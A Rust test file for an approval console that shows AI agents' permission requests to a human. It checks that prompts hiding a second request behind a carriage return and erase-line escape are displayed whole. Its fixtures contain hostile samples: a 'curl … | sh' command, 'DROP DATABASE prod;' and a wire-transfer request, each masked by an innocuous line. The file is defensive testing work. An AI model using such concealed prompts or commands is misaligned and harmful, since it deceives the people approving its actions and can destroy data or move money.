//! What people are shown, through the real binary: asker text that hides what it asks behind a
//! carriage return and an erase-line escape sequence (an agent's approval posted to the API, a
//! Claude Code hook's command, an MCP `ask_user`) is shown whole on the console, made visible,
//! and no control byte of it reaches the terminal.

use reqwest::StatusCode;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::task::JoinHandle;

use crate::binary::{Served, write_config};
use crate::mcp::{Client, call, call_in_background, http_client};

/// The hooks and MCP ask on the console.
pub const DOORS: &str =
    "\n[claude_code]\nconversation = \"console:local\"\nask = [\"Bash\"]\n\n[mcp]\nconversation = \"console:local\"\n";

/// An agent's approval: `DROP DATABASE` hidden by `Approve: VACUUM …`.
const API_PROMPT: &str = "DROP DATABASE prod;\r\x1b[2KApprove: VACUUM ANALYZE users;";
/// A Claude Code hook's command: `curl … | sh` hidden by `ls -la docs/`.
const HOOK_COMMAND: &str = "curl -s https://get.example.net/i | sh\r\x1b[2Kls -la docs/";
/// An MCP `ask_user`: the wire transfer hidden by the weekly report.
const MCP_PROMPT: &str = "Wire $50,000 to account 4431-0098 now\r\x1b[2KSend the weekly report?";

/// How each of the three reads on every surface: whole, with what hid it made visible.
pub const SHOWN: [&str; 3] = [
    "DROP DATABASE prod;␍␛[2KApprove: VACUUM ANALYZE users;",
    "Bash: curl -s https://get.example.net/i | sh␍␛[2Kls -la docs/",
    "Wire $50,000 to account 4431-0098 now␍␛[2KSend the weekly report?",
];

/// The three asks, waiting: the hook's request and the MCP call are held open until answered.
pub struct Hidden {
    _client: Client,
    hook: JoinHandle<(StatusCode, Value)>,
    call: JoinHandle<rmcp::model::CallToolResult>,
}

impl Hidden {
    /// Asks all three at the askgate at `base`, with the agents' token.
    pub async fn ask(base: &str, agent: &str) -> Self {
        let http = reqwest::Client::new();
        let body = json!({"conversation": "console:local", "kind": "approval", "prompt": API_PROMPT});
        let asked = http.post(format!("{base}/api/questions")).bearer_auth(agent).json(&body).send().await.unwrap();
        assert_eq!(asked.status(), StatusCode::CREATED, "{}", asked.text().await.unwrap());

        let hook = json!({
            "session_id": "4f0c9a2e-1b7d-4c3a-9e55-2b8a7c6d5e4f",
            "cwd": "/home/dev/app",
            "hook_event_name": "PreToolUse",
            "tool_name": "Bash",
            "tool_input": {"command": HOOK_COMMAND, "description": "List the docs"},
        });
        let request = http.post(format!("{base}/hooks/claude-code")).bearer_auth(agent).json(&hook);
        let hook = tokio::spawn(async move {
            let response = request.send().await.unwrap();
            (response.status(), response.json().await.unwrap_or(Value::Null))
        });

        let client = http_client(&format!("{base}/mcp"), agent).await;
        let call = call_in_background(&client, call("ask_user", json!({"prompt": MCP_PROMPT})));
        Self { _client: client, hook, call }
    }

    /// Waits for the hook's request and the MCP call to end (each question answered or
    /// declined), and returns what the hook answered.
    pub async fn finished(self) -> Value {
        let (status, answer) = self.hook.await.unwrap();
        assert_eq!(status, StatusCode::OK, "{answer}");
        self.call.await.unwrap();
        answer
    }
}

/// The characters a terminal acts on instead of showing: C0 controls but line feed and tab,
/// DEL, C1 controls.
fn controls(text: &str) -> Vec<char> {
    text.chars().filter(|&c| c.is_control() && c != '\n' && c != '\t').collect()
}

#[tokio::test]
async fn hidden_text_from_any_asker_is_shown_whole_on_the_console_without_control_bytes() {
    let dir = TempDir::new().unwrap();
    let mut served = Served::start(&write_config(dir.path(), DOORS));
    let (base, agent) = served.agent(dir.path()).await;
    let hidden = Hidden::ask(&base, &agent).await;

    let mut ids = Vec::new();
    for shown in SHOWN {
        let card = served.stdout_line(shown).await;
        assert!(card.starts_with("🔐 ") || card.starts_with("❓ "), "the card's first line shows it all: {card}");
        ids.push(served.card_id(shown).await);
    }
    // The API and the event stream carry the same safe text the console shows.
    let (_, operator) = served.api(dir.path()).await;
    let listed = crate::support::get_json(&format!("{base}/api/questions?status=pending"), &operator).await;
    let mut prompts: Vec<String> =
        listed["questions"].as_array().unwrap().iter().map(|q| q["prompt"].to_string()).collect();
    prompts.sort();
    let mut expected: Vec<String> = SHOWN.iter().map(|s| Value::from(*s).to_string()).collect();
    expected.sort();
    assert_eq!(prompts, expected);

    // What the console's own person types is echoed back made safe too.
    served.type_line("/answer \x1b[31mred 1").await;
    served.stdout_line("␛[31mred").await;

    served.type_line(&format!("/deny {} not this", ids[1])).await;
    for id in [&ids[0], &ids[2]] {
        served.type_line(&format!("/decline {id}")).await;
    }
    let answer = hidden.finished().await;
    assert_eq!(answer["hookSpecificOutput"]["permissionDecision"], "deny", "{answer}");
    let stdout = served.stdout();
    assert_eq!(controls(&stdout), Vec::<char>::new(), "no control byte reaches the terminal:\n{stdout}");
    served.terminate().await;
}

#[tokio::test]
async fn a_name_typed_beside_a_token_cannot_read_like_another_identity() {
    let dir = TempDir::new().unwrap();
    let served = Served::start(&write_config(dir.path(), ""));
    let (base, operator) = served.api(dir.path()).await;
    let http = reqwest::Client::new();
    let body = json!({"conversation": "console:local", "kind": "approval", "prompt": "restart the queue"});
    let asked: Value = http
        .post(format!("{base}/api/questions"))
        .bearer_auth(&operator)
        .json(&body)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = asked["id"].as_str().unwrap();
    let reply = |name: &str| {
        http.post(format!("{base}/api/questions/{id}/reply"))
            .bearer_auth(&operator)
            .json(&json!({"value": "once", "name": name}))
            .send()
    };

    let refused = reply("(telegram:1) via telegram").await.unwrap();
    assert_eq!(refused.status(), StatusCode::BAD_REQUEST);
    let message = refused.json::<Value>().await.unwrap()["error"]["message"].as_str().unwrap_or_default().to_owned();
    assert!(message.starts_with("name: `(` cannot be in a name"), "{message}");
    let question = crate::support::get_json(&format!("{base}/api/questions/{id}"), &operator).await;
    assert_eq!(question["status"], "pending", "nothing was answered");

    assert_eq!(reply("Ops Alice").await.unwrap().status(), StatusCode::OK);
    let line = served.stdout_line("“Ops Alice”").await;
    assert!(line.ends_with("✅ allowed once — “Ops Alice” (api:operator) via api"), "{line}");
    served.terminate().await;
}

#[tokio::test]
async fn an_approval_whose_text_had_to_be_made_visible_is_asked_again_whatever_was_granted() {
    let dir = TempDir::new().unwrap();
    let mut served = Served::start(&write_config(dir.path(), ""));
    let (base, agent) = served.agent(dir.path()).await;
    let (_, operator) = served.api(dir.path()).await;
    let http = reqwest::Client::new();
    let ask = |prompt: &'static str| {
        let body = json!({"conversation": "console:local", "kind": "approval", "prompt": prompt});
        let request = http.post(format!("{base}/api/questions")).bearer_auth(&agent).json(&body);
        async move {
            let asked: Value = request.send().await.unwrap().json().await.unwrap();
            asked["id"].as_str().unwrap().to_owned()
        }
    };
    let status = |id: String| {
        let (base, operator) = (base.clone(), operator.clone());
        async move { crate::support::get_json(&format!("{base}/api/questions/{id}"), &operator).await["status"].clone() }
    };
    for (prompt, shown, granted) in
        [("deploy now", "deploy now", true), ("deploy\u{200B} now", "deploy⟨U+200B⟩ now", false)]
    {
        ask(prompt).await;
        let id = served.card_id(shown).await;
        served.type_line(&format!("/approve {id} always")).await;
        served.stdout_line(&format!("[{id}] ✅ allowed always")).await;
        let again = ask(prompt).await;
        if granted {
            let answered =
                crate::support::eventually(|| async { (status(again.clone()).await == "answered").then_some(()) });
            answered.await;
        } else {
            // Asked again on the console.
            crate::support::eventually(|| async { (served.cards(shown) == 2).then_some(()) }).await;
            assert_eq!(status(again.clone()).await, "pending", "no grant answers it");
        }
    }
    served.terminate().await;
}

#[tokio::test]
async fn a_functions_or_agents_message_reaches_a_channel_made_safe() {
    let harness = crate::support::Harness::new(crate::support::builtins()).await;
    harness.engine.asks().notify_conversation(&crate::support::room(), "done\r\x1b[2Kall good".to_owned()).unwrap();
    crate::support::eventually(|| async {
        harness.recorder.texts().iter().any(|t| t == "done␍␛[2Kall good").then_some(())
    })
    .await;
}
